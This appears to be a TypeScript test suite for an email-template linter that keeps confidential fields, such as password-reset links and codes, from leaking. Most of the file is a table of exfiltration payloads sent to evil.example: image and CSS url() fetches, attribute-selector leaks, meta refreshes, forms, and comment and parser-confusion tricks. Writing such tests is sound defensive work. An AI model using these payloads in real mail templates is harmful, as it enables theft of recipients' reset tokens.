import { expect } from 'chai';
import { compose, type Sources } from '../../server/mail/templates/language/compose.ts';
import { readHere } from '../../server/mail/templates/language/inclusions.ts';
import { type Source, sourceName } from '../../server/mail/templates/language/source.ts';
import type { TemplateContent } from '../../server/mail/templates/language/template.ts';
import { checkPaths } from '../../server/mail/templates/language/walk.ts';
import { confidentialIssues } from '../../server/mail/templates/lint/confidential/check.ts';
import { compileMjml } from '../../server/mail/templates/preview/tasks/compile-mjml.ts';
import { inspect } from '../../server/mail/templates/preview/tasks/inspect.ts';
import { type ContentInput, templateContent } from '../support/template-content.ts';

const contract: TemplateContent['contract'] = {
  link: { type: 'url' },
  name: { type: 'string', optional: true },
  code: { type: 'string' },
  hours: { type: 'integer' },
  links: { type: 'array', items: { type: 'object', fields: { link: { type: 'url' } } } },
  words: { type: 'array', items: { type: 'string' } },
  nested: { type: 'array', items: { type: 'array', items: { type: 'string' } } },
  account: { type: 'object', fields: { link: { type: 'url' } } },
};
const sample = {
  ...{ link: 'https://shop.example/reset/1', name: 'Ada', code: '482913', hours: 1 },
  ...{ links: [{ link: 'https://shop.example/1' }], words: ['a'], nested: [['a']] },
  account: { link: 'https://shop.example/2' },
};
const contentOf = (input: ContentInput): TemplateContent =>
  templateContent({
    ...{ contract, sample, confidential: true, subject: 'A link', text: 'A link' },
    brand: { name: 'Alder', url: 'https://alder.example', evil: 'https://evil.example/?' },
    ...input,
  });
const evil = 'https://evil.example/?x=';

/** A template is attacked in each of its places: what a publisher may edit, and what mail programs may do with it. */
const attacks: [what: string, input: ContentInput, parts?: 'without text'][] = [
  // Fetched as the mail is opened.
  ['an image', { html: `<img src="${evil}{{link}}">` }],
  ['an image that is the link', { html: '<img src="{{link}}">' }],
  ['an image without quotes', { html: `<img src=${evil}{{link}}>` }],
  ['an image in single quotes', { html: `<img src='${evil}{{link}}'>` }],
  ['an image in capitals', { html: `<IMG SRC="${evil}{{link}}">` }],
  ['an image with gaps', { html: `<img src = "\n${evil}\n{{link}}">` }],
  ['an image of an entity', { html: `<img src="https&colon;&sol;&#47;evil.example&#x2f;?{{link}}">` }],
  ['an image without a scheme', { html: '<img src="//evil.example/{{link}}">' }],
  ['an image by a name', { html: '<img src="https://{{code}}.evil.example/">' }],
  ['an image of a number', { html: '<img src="https://evil.example/{{hours}}">' }],
  ['an image of a helper', { html: '<img src="https://evil.example/{{number hours}}">' }],
  ['an image of two attributes', { html: `<img alt="{{name}}" src="${evil}{{link}}">` }],
  ['a srcset', { html: `<img alt="" srcset="${evil}{{link}} 2x">` }],
  ['a background', { html: `<td background="${evil}{{link}}">x</td>` }],
  ['a style', { html: `<p style="background:url(${evil}{{link}})">x</p>` }],
  ['a style that is half a field', { html: '<p style="{{code}}">x</p>' }],
  ['a style sheet', { html: `<style>p { background: url(${evil}{{link}}) }</style>` }],
  ['a poster', { html: `<video poster="${evil}{{link}}"></video>` }],
  ['a sound', { html: `<audio src="${evil}{{link}}"></audio>` }],
  ['an object', { html: `<object data="${evil}{{link}}"></object>` }],
  ['an svg', { html: `<svg><image href="${evil}{{link}}"/></svg>` }],
  ['an svg of xlink', { html: `<svg><image xlink:href="${evil}{{link}}"/></svg>` }],
  ['a style sheet elsewhere', { html: `<link rel="stylesheet" href="${evil}{{link}}">` }],
  ['a style sheet that reads links', { html: '<link rel="stylesheet" href="https://evil.example/a.css">' }],
  ['an import', { html: '<style>@import url(https://evil.example/a.css);</style>' }],
  ['a selector', { html: '<style>a[href*="reset/1"] { background: url(https://evil.example/1) }</style>' }],
  ['an escaped selector', { html: '<style>a[\\68 ref*="1"] { background: url(//evil.example) }</style>' }],
  [
    'a selector in gaps',
    { html: '<style>a[ /*]*/ href *= "reset/1"] { background: url(https://evil.example/1) }</style>' },
  ],
  ['an import in capitals', { html: '<style>@IMPORT "https://evil.example/a.css";</style>' }],
  ['an escaped import', { html: '<style>@\\69mport "https://evil.example/a.css";</style>' }],
  ['a font', { html: '<style>@font-face { src: url(//evil.example/1); unicode-range: U+31 }</style>' }],
  ['a refresh', { html: `<meta http-equiv="Refresh" content="0;url=${evil}{{link}}">` }],
  ['a refresh elsewhere', { html: '<meta http-equiv="refresh" content="0;url=https://evil.example">' }],
  ['a frame', { html: `<iframe src="${evil}{{link}}"></iframe>` }],
  ['a frame in itself', { html: '<iframe srcdoc="{{link}}"></iframe>' }],
  ['data', { html: '<p data-src="{{link}}">x</p>' }],
  ['an attribute nobody knows', { html: '<p lowsrc="{{link}}">x</p>' }],
  ['a guess', { html: '{{#if (eq code "482913")}}<img alt="" src="//evil.example/482913">{{/if}}' }],
  [
    'a guess by way of a partial',
    {
      html: '{{> pixel yes=(eq code "1")}}',
      partials: { html: { pixel: '{{#if yes}}<p style="background:url(//evil.example/1)"></p>{{/if}}' } },
    },
  ],

  // Followed by somebody.
  ['a link', { html: `<a href="${evil}{{link}}">x</a>` }],
  ['a link after it', { html: '<a href="{{link}}.evil.example">x</a>' }],
  ['a link with a mark', { html: '<a href="{{link}}?from=mail">x</a>' }],
  ['a link of two', { html: '<a href="{{code}}{{link}}">x</a>' }],
  ['a link in branches', { html: `<a href="{{#if name}}${evil}{{/if}}{{link}}">x</a>` }],
  ['a link of the brand', { html: '<a href="{{@brand.evil}}{{link}}">x</a>' }],
  ['a mail to somebody', { html: '<a href="mailto:a@evil.example?body={{link}}">x</a>' }],
  ['a ping', { html: '<a href="{{link}}" ping="https://evil.example">x</a>' }],
  ['an attribution', { html: '<a href="{{link}}" attributionsrc="https://evil.example">x</a>' }],
  ['a base', { html: '<base href="https://evil.example"><a href="{{code}}">x</a>' }],
  ['a form', { html: '<form action="https://evil.example"><input name="x" value="{{code}}"></form>' }],
  ['an action', { html: `<button formaction="${evil}{{link}}">x</button>` }],
  ['a citation', { html: `<blockquote cite="${evil}{{link}}">x</blockquote>` }],
  ['words', { html: `<p>${evil}{{link}}</p>` }],
  ['words of an entity', { html: '<p>evil&period;example&#47;{{code}}</p>' }],
  ['words without a scheme', { html: '<p>evil.example/{{code}}</p>' }],
  ['words in parts', { html: '<p>www.<b>evil</b>.<i>example</i>/<u>{{code}}</u></p>' }],
  ['words after it', { html: '<p>{{code}}.evil.example</p>' }],
  ['words in branches', { html: '<p>evil{{#if name}}.{{else}}x{{/if}}example{{code}}</p>' }],
  ['words of the brand', { html: '<p>{{@brand.evil}}{{code}}</p>' }],
  ['words of another field', { html: '<p>{{name}}{{link}}</p>' }],
  ['words in a loop', { html: '<p>{{#each words}}{{this}}{{/each}}</p>' }],
  [
    'words of the text that is made',
    { html: `<table><tr><td>${evil}</td><td>{{link}}</td></tr></table>` },
    'without text',
  ],
  ['a link before it in that text', { html: `<p><a href="${evil}">x</a>{{link}}</p>` }, 'without text'],
  ['an alt', { html: `<img alt="${evil}{{link}}" src="https://a.example/x.png">` }],
  ['the text', { text: `${evil}{{link}}` }],
  ['the subject', { subject: `${evil}{{link}}` }],
  ['the preheader', { preheader: 'www.evil.example/{{code}}' }],

  // By the language.
  ['with', { html: `{{#with account}}<img alt="" src="${evil}{{link}}">{{/with}}` }],
  ['with this', { html: `{{#with link}}<img alt="" src="${evil}{{this}}">{{/with}}` }],
  ['each', { html: `{{#each links}}<img alt="" src="${evil}{{link}}">{{/each}}` }],
  ['each as', { html: `{{#each links as |one|}}<img alt="" src="${evil}{{one.link}}">{{/each}}` }],
  [
    'each of each',
    { html: `{{#each nested}}{{#each this}}<img alt="" src="${evil}{{this}}">{{/each}}{{/each}}` },
  ],
  ['each of a lookup', { html: `{{#each (lookup nested 0)}}<img alt="" src="${evil}{{this}}">{{/each}}` }],
  ['each of the root', { html: `{{#each @root}}<img alt="" src="${evil}{{this}}">{{/each}}` }],
  ['the root', { html: `<img alt="" src="${evil}{{@root.link}}">` }],
  ['a lookup', { html: `<img alt="" src="${evil}{{lookup this "link"}}">` }],
  [
    'a condition that the sample does not meet',
    { html: `{{#unless name}}<img alt="" src="${evil}{{link}}">{{/unless}}` },
  ],
  [
    'another language',
    { locales: { nl: { subject: 'x', html: `<img alt="" src="${evil}{{link}}">`, text: 'x' } } },
  ],
  [
    'the preheader of the layout',
    { layout: { html: `<img alt="" src="${evil}{{@preheader}}">{{> content}}` } },
  ],
  ['the layout', { layout: { html: `<img alt="" src="${evil}{{link}}">{{> content}}` } }],
  ['the layout around it', { layout: { html: `<img alt="" src="${evil}{{> content}}">` }, html: '{{link}}' }],
  ['the layout of the text', { layout: { text: `${evil}{{> content}}` }, text: '{{link}}' }],
  [
    'a partial',
    { html: '{{> it href=link}}', partials: { html: { it: `<img alt="" src="${evil}{{href}}">` } } },
  ],
  [
    'a partial with a text',
    { html: `{{> it href=link to="${evil}"}}`, partials: { html: { it: '<p>{{to}}{{href}}</p>' } } },
  ],
  [
    'a partial with markup',
    {
      html: `{{> it href=link to="<img alt='' src='${evil}"}}`,
      partials: { html: { it: "{{{to}}}{{href}}'>" } },
    },
  ],
  [
    'a partial in a partial',
    {
      html: '{{> a}}',
      partials: { html: { a: '{{> b href=link}}', b: `<img alt="" src="${evil}{{href}}">` } },
    },
  ],
  [
    'two partials',
    { html: '{{> a}}{{link}}{{> b}}', partials: { html: { a: `<img alt="" src="${evil}`, b: '">' } } },
  ],
  ['a partial of the text', { text: '{{> a}}{{link}}', partials: { text: { a: evil } } }],
  ['markup of the brand', { html: '<p>{{{@brand.evil}}} {{link}}</p>' }],
  [
    'markup of the brand in a style',
    {
      brand: { name: 'x', colour: `red}</style><img src="${evil}` },
      layout: { html: '<style>p { color: {{@brand.colour}} }</style>{{> content}}' },
      html: '{{link}}">',
    },
  ],
  [
    'a rule of the brand in a style',
    {
      brand: { name: 'x', colour: 'red} } @media screen { a[href*="1"] { background: url(//evil.example)' },
      layout: {
        html: '<html><head><style>@media screen { p { color: {{@brand.colour}} } }</style></head>{{> content}}</html>',
      },
    },
  ],

  // Where programs differ about what it is.
  ['a comment', { html: `<!-- <img src="${evil}{{link}}"> -->` }],
  ['a comment for Outlook', { html: `<!--[if mso]><img src="${evil}{{link}}"><![endif]-->` }],
  [
    'a comment for all but Outlook',
    { html: `<!--[if !mso]><!--><img src="${evil}{{link}}"><!--<![endif]-->` },
  ],
  ['a comment that ends early', { html: `<!-- --!><img alt="" src="${evil}--> {{link}}">` }],
  ['a comment that is none', { html: `<!--><img alt="" src="${evil}--> {{link}}">` }],
  ['a comment that hardly is one', { html: `<!---><img alt="" src="${evil}--> {{link}}">` }],
  [
    'a comment for Outlook that ends early',
    { html: `<!--[if mso]><p title="--><img src='${evil} {{link}}'>"></p><![endif]-->` },
  ],
  [
    'a comment for Outlook that ends in a tag',
    { html: `<!--[if mso]><p a--><img src='${evil} {{link}}'><![endif]-->` },
  ],
  ['an attribute that does not end', { html: `<img alt="" src="${evil}<p>{{link}}</p>` }],
  [
    'an attribute that begins in a branch',
    { html: `<img alt="" {{#if name}}src="${evil}{{else}}title="{{/if}}{{link}}">` },
  ],
  ['a tag that begins in a branch', { html: `{{#if name}}<img src="${evil}{{/if}}{{link}}">` }],
  ['the name of an attribute', { html: '<img {{code}}="x">' }],
  ['the name of a tag', { html: '<{{code}}>' }],
  ['no quotes', { html: '<a href={{link}}>x</a>' }],
  ['attributes without a gap', { html: `<p title="a"src="${evil}{{link}}">x</p>` }],
  ['a noscript', { html: `<noscript><p title="</noscript><img src=${evil} {{link}}>"></p></noscript>` }],
  ['a template', { html: `<template>{{link}}</template>` }],
  ['a CDATA', { html: `<![CDATA[ ><img src="${evil}]]>{{link}}` }],
  ['an instruction', { html: `<?xml <img src="${evil}?>{{link}}` }],
  ['a style that closes early', { html: `<style></style x="><img src='${evil}"> {{link}}'>` }],
  ['a title that closes', { html: `<title></title><img alt="" src="${evil}{{link}}">` }],
];

describe('a confidential template', () => {
  const errorsOf = (input: ContentInput) => confidentialIssues(contentOf(input));

  for (const [what, input, parts] of attacks) {
    it(`gives no field away by ${what}`, () => {
      // As a publisher may write it: the language has nothing against it.
      const content = contentOf(input);
      if (parts === 'without text') delete content.locales.default.text;
      expect(checkPaths(content).filter(({ severity }) => severity === 'error')).to.deep.equal([]);
      const found = confidentialIssues(content);
      expect(found).not.to.deep.equal([]);
      for (const one of found) expect(one).to.include({ severity: 'error', rule: 'confidential' });
      const { confidential: _, ...open } = content;
      expect(confidentialIssues(open)).to.deep.equal([]);
    });
  }

  const right: [what: string, input: ContentInput][] = [
    ['a link', { html: '<p>Hello {{name}}, <a href="{{link}}">choose a password</a>.</p>' }],
    ['a link in single quotes, with gaps', { html: "<a href=' {{link}}\n'>x</a>" }],
    ['a link in branches', { html: '<a href="{{#if name}}{{link}}{{else}}{{account.link}}{{/if}}">x</a>' }],
    ['links in a loop', { html: '<ul>{{#each links}}<li><a href="{{link}}">x</a></li>{{/each}}</ul>' }],
    ['an area', { html: '<map name="m"><area href="{{link}}" alt="x"></map>' }],
    [
      'a button for Outlook',
      {
        html: '<!--[if mso]><v:roundrect href="{{link}}"></v:roundrect><![endif]--><!--[if !mso]><!--><a href="{{link}}">x</a><!--<![endif]-->',
      },
    ],
    [
      'a partial',
      {
        html: '{{> button href=link label="Go"}}',
        text: '{{> button href=link label="Go"}}',
        partials: {
          html: { button: '<a href="{{href}}">{{label}}</a>' },
          text: { button: '{{label}}:\n{{href}}' },
        },
      },
    ],
    ['words', { html: '<p>Code: <b>{{code}}</b>, for {{number hours}} hours ({{name}}). “{{name}}”!</p>' }],
    ['words with entities', { html: '<p>{{name}}&nbsp;&mdash;&nbsp;caf&eacute;&#39;s {{code}}&hellip;</p>' }],
    ['an alt', { html: '<img alt="Hello {{name}}" src="https://a.example/x.png">' }],
    [
      'cells beside a text of its own',
      { html: '<table><tr><td>{{name}}</td><td>{{link}}</td></tr></table>' },
    ],
    [
      'an address of the brand beside it',
      {
        html: '<p><a href="{{@brand.url}}/help">{{@brand.name}}</a> {{code}}</p>',
        text: '{{@brand.url}}/help {{code}}',
      },
    ],
    [
      'an image when there is a field',
      { html: '{{#if name}}<img alt="" src="https://a.example/x.png">{{/if}}' },
    ],
    ['a link for some values', { html: '{{#if (eq hours 1)}}<a href="https://a.example/x">x</a>{{/if}}' }],
    [
      'a class for some values',
      { html: '{{#each words}}<p {{#if @last}}class="last"{{/if}} id="p{{@index}}">{{this}}</p>{{/each}}' },
    ],
    [
      'a title and a doctype',
      {
        html: '<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html"><title>{{name}}</title></head><body>1 < 2<br/>x</body></html>',
      },
    ],
    [
      'a style',
      {
        layout: {
          html: '<html><head><style>p { color: {{@brand.name}} } a[class="x"] > b { x: y } [data-ogsc] p { x: y } @media screen { a { color: red } }</style></head><body>{{> content}}</body></html>',
        },
      },
    ],
  ];
  for (const [what, input] of right) {
    it(`may have ${what}`, () => {
      const content = contentOf(input);
      expect(checkPaths(content).filter(({ severity }) => severity === 'error')).to.deep.equal([]);
      expect(confidentialIssues(content)).to.deep.equal([]);
    });
  }

  it('may be made of MJML', async () => {
    const { html, issues } =
      await compileMjml(`<mjml><mj-head><mj-title>x</mj-title><mj-style>a { color: red }</mj-style></mj-head>
      <mj-body><mj-section><mj-column><mj-text>Hello {{name}}</mj-text><mj-image alt="" src="https://a.example/x.png"></mj-image>
      <mj-button href="{{link}}">Go</mj-button></mj-column></mj-section></mj-body></mjml>`);
    expect(issues).to.deep.equal([]);
    expect(errorsOf({ html })).to.deep.equal([]);
  });

  it('is told the place and the remedy in words', () => {
    const html = '<p>\n  {{> pixel}}\n</p>';
    const pixel = `<b>x</b>\n  <img alt=""\n src="${evil}{{link}}">`;
    const [first] = inspect({
      content: contentOf({ html, partials: { html: { pixel } } }),
      bulk: false,
      from: { email: 'shop@sender.example' },
    }).filter(({ rule }) => rule === 'confidential');
    expect(first).to.deep.include({ part: 'partial:pixel.html', locale: null, line: 3, about: 'link' });
    expect(first?.message).to.equal(
      'link stands in the attribute src of <img>, which mail programs may fetch by themselves. In a confidential template a ' +
        'field is the whole address of a link, <a href="{{link}}">, or a word by itself in the text.',
    );
    const [word] = errorsOf({ text: `Hello\n\n ${evil}{{link}}` });
    expect(word).to.deep.include({ part: 'text', locale: 'default', line: 3 });
    const [odd] = errorsOf({ html: '<p>\n{{#if name}}<p title="{{/if}}x">' });
    expect(odd).to.deep.include({ part: 'html', line: 2 });
  });

  it('is one when it is sent in the place of one, as a brand’s own', () => {
    const parts = { default: { subject: 'x', html: 'x', text: 'x' } };
    const own = { category: '', description: '', layout: 'none', contract: {}, sample: {}, locales: parts };
    const all: Source[] = [
      { kind: 'brand', key: 'default', content: {} },
      { kind: 'template', key: 'reset', content: { ...own, confidential: true } },
      { kind: 'template', key: 'receipt', content: own },
    ];
    const sources: Sources = new Map(all.map(source => [sourceName(source), readHere(source)]));
    const isConfidential = (key: string) =>
      compose(readHere({ kind: 'template' as const, key, content: own }), sources).content?.confidential ??
      false;
    expect(['outlet.reset', 'outlet.receipt', 'outlet.other', 'resets'].map(isConfidential)).to.deep.equal([
      ...[true, false, false, false],
    ]);
  });

  it('is not read for ever: what loops and partials repeat is bounded', () => {
    const names = Array.from({ length: 40 }, (_, i) => `p${i}`);
    const html = Object.fromEntries(
      names.map((name, i) => [name, i === 39 ? 'x' : `{{> p${i + 1}}}{{> p${i + 1}}}`]),
    );
    const before = process.cpuUsage();
    const [first] = errorsOf({ html: '{{> p0}}', partials: { html } });
    expect(first?.message).to.match(/too large to be checked/);
    expect(process.cpuUsage(before).user / 1000).to.be.below(20_000);
  });
});
